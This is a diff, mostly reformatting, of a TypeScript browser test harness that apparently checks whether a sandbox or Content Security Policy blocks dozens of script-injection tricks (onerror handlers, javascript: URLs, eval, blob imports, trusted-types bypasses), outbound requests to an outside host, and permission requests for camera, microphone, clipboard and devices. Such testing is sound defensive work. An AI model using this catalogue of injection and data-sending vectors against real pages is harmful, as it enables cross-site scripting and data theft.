@@ -27,18 +27,19 @@ export function attack(elsewhere: string): Promise<{ tried: string[]; ran: numbe
       document.body.append(box)
       box.innerHTML = `<img src="data:," onerror="${code}">`
     },
-    'insertAdjacentHTML': () => document.body.insertAdjacentHTML('beforeend', `<svg onload="${code}"></svg>`),
+    insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', `<svg onload="${code}"></svg>`),
     'document.write': () => document.write(`<script>${code}</script>`),
     'contextual fragment': () => document.body.append(document.createRange().createContextualFragment(`<script>${code}</script>`)),
-    'a parsed document': () => document.body.append(...new DOMParser().parseFromString(`<img src="data:," onerror="${code}">`, 'text/html').body.children),
+    'a parsed document': () =>
+      document.body.append(...new DOMParser().parseFromString(`<img src="data:," onerror="${code}">`, 'text/html').body.children),
     'a handler attribute': () => add('img', { onerror: code, src: 'data:image/png;base64,AA' }),
     'a toggle handler': () => add('details', { ontoggle: code, open: '' }),
     'a javascript: link': () => add('a', { href: `javascript:${code}` }).click(),
     'a javascript: form': () => (add('form', { action: `javascript:${code}` }) as HTMLFormElement).submit(),
     'a javascript: address': () => void (location.href = `javascript:${code}`),
     'a javascript: frame': () => add('iframe', { src: `javascript:parent.eval("${code}")` }),
-    'srcdoc': () => add('iframe', { srcdoc: `<script>parent.${code.replace('globalThis', '__ran || parent')}</script>` }),
-    'eval': () => globalThis.eval(code),
+    srcdoc: () => add('iframe', { srcdoc: `<script>parent.${code.replace('globalThis', '__ran || parent')}</script>` }),
+    eval: () => globalThis.eval(code),
     'new Function': () => new Function(code)(),
     'the constructor of a function': () => (async () => undefined).constructor(code)(),
     'a timer of text': () => setTimeout(code, 0),
@@ -46,10 +47,13 @@ export function attack(elsewhere: string): Promise<{ tried: string[]; ran: numbe
     'import of a blob': () => import(/* @vite-ignore */ URL.createObjectURL(new Blob([code], { type: 'text/javascript' }))),
     'import from elsewhere': () => import(/* @vite-ignore */ `${elsewhere}/import.js`),
     'a script from elsewhere': () => add('script', { src: `${elsewhere}/script.js` }),
-    'a worker of a blob': () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }))).addEventListener('message', () => globalThis.eval(code)),
+    'a worker of a blob': () =>
+      new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }))).addEventListener('message', () =>
+        globalThis.eval(code),
+      ),
     'a worker from elsewhere': () => new Worker(`${elsewhere}/worker.js`),
     'a service worker from elsewhere': () => navigator.serviceWorker?.register(`${elsewhere}/service.js`),
-    'wasm': () => new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])) && void (page.__ran = Number(page.__ran ?? 0) + 1),
+    wasm: () => new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])) && void (page.__ran = Number(page.__ran ?? 0) + 1),
     'an image': () => add('img', { src: `${elsewhere}/image.png` }),
     'a picture': () => add('picture', {}).append(Object.assign(document.createElement('source'), { srcset: `${elsewhere}/picture.png` })),
     'a video': () => add('video', { src: `${elsewhere}/video.mp4`, poster: `${elsewhere}/poster.png` }),
@@ -64,9 +68,9 @@ export function attack(elsewhere: string): Promise<{ tried: string[]; ran: numbe
     'a background': () => add('div', { style: `background: url(${elsewhere}/background.png); height: 9px` }),
     'an inline style element': () => add('style', {}, `body { background: url(${elsewhere}/inline.png) }`),
     'a font': () => new FontFace('x', `url(${elsewhere}/font.woff2)`).load(),
-    'fetch': () => fetch(`${elsewhere}/fetch`, { method: 'POST', body: 'x', mode: 'no-cors' }),
+    fetch: () => fetch(`${elsewhere}/fetch`, { method: 'POST', body: 'x', mode: 'no-cors' }),
     'a beacon': () => navigator.sendBeacon(`${elsewhere}/beacon`, 'x'),
-    'XMLHttpRequest': () => {
+    XMLHttpRequest: () => {
       const request = new XMLHttpRequest()
       request.open('GET', `${elsewhere}/xhr`)
       request.send()
@@ -85,7 +89,9 @@ export function attack(elsewhere: string): Promise<{ tried: string[]; ran: numbe
       add('img', { src: 'relative.png' })
     },
     'another trusted types policy': () => {
-      const types = (globalThis as unknown as { trustedTypes?: { createPolicy(name: string, rules: object): { createScript(text: string): unknown } } }).trustedTypes
+      const types = (
+        globalThis as unknown as { trustedTypes?: { createPolicy(name: string, rules: object): { createScript(text: string): unknown } } }
+      ).trustedTypes
       globalThis.eval(types?.createPolicy('mine', { createScript: (text: string) => text }).createScript(code) as string)
     },
     'the default policy again': () => {
@@ -103,7 +109,10 @@ export function attack(elsewhere: string): Promise<{ tried: string[]; ran: numbe
           // Refused at once: as it should be.
         }
       }
-      setTimeout(() => resolve({ tried: Object.keys(attacks), ran: Number(page.__ran ?? 0), violations: [...new Set(violations)].sort() }), 1500)
+      setTimeout(
+        () => resolve({ tried: Object.keys(attacks), ran: Number(page.__ran ?? 0), violations: [...new Set(violations)].sort() }),
+        1500,
+      )
     }, 0)
   })
 }
@@ -121,16 +130,50 @@ export async function askForPowers(): Promise<string[]> {
     }
   }
   const tools = navigator as unknown as Record<string, Record<string, (...params: unknown[]) => unknown> | undefined>
-  for (const name of ['geolocation', 'notifications', 'camera', 'microphone', 'midi', 'clipboard-read', 'persistent-storage', 'background-sync', 'idle-detection', 'screen-wake-lock', 'storage-access', 'window-management', 'local-fonts']) {
-    await ask(`query ${name}`, () => navigator.permissions.query({ name: name as PermissionName }), answer => (answer as PermissionStatus).state === 'granted' && !['background-sync', 'screen-wake-lock', 'storage-access'].includes(name))
+  for (const name of [
+    'geolocation',
+    'notifications',
+    'camera',
+    'microphone',
+    'midi',
+    'clipboard-read',
+    'persistent-storage',
+    'background-sync',
+    'idle-detection',
+    'screen-wake-lock',
+    'storage-access',
+    'window-management',
+    'local-fonts',
+  ]) {
+    await ask(
+      `query ${name}`,
+      () => navigator.permissions.query({ name: name as PermissionName }),
+      answer =>
+        (answer as PermissionStatus).state === 'granted' && !['background-sync', 'screen-wake-lock', 'storage-access'].includes(name),
+    )
   }
-  await ask('notifications', () => Notification.requestPermission(), answer => answer === 'granted')
+  await ask(
+    'notifications',
+    () => Notification.requestPermission(),
+    answer => answer === 'granted',
+  )
   await ask('geolocation', () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)))
   await ask('camera', () => navigator.mediaDevices.getUserMedia({ video: true }))
   await ask('microphone', () => navigator.mediaDevices.getUserMedia({ audio: true }))
   await ask('screen', () => navigator.mediaDevices.getDisplayMedia())
   await ask('clipboard', () => navigator.clipboard.readText())
-  await ask('midi', () => tools.requestMIDIAccess && (navigator as unknown as { requestMIDIAccess(options: object): unknown }).requestMIDIAccess({ sysex: true }))
-  for (const device of ['usb', 'hid', 'serial', 'bluetooth']) await ask(device, () => tools[device]?.[device === 'serial' ? 'requestPort' : 'requestDevice']?.({ filters: [], acceptAllDevices: device === 'bluetooth' || undefined }))
+  await ask(
+    'midi',
+    () =>
+      tools.requestMIDIAccess &&
+      (navigator as unknown as { requestMIDIAccess(options: object): unknown }).requestMIDIAccess({ sysex: true }),
+  )
+  for (const device of ['usb', 'hid', 'serial', 'bluetooth'])
+    await ask(device, () =>
+      tools[device]?.[device === 'serial' ? 'requestPort' : 'requestDevice']?.({
+        filters: [],
+        acceptAllDevices: device === 'bluetooth' || undefined,
+      }),
+    )
   return given
 }
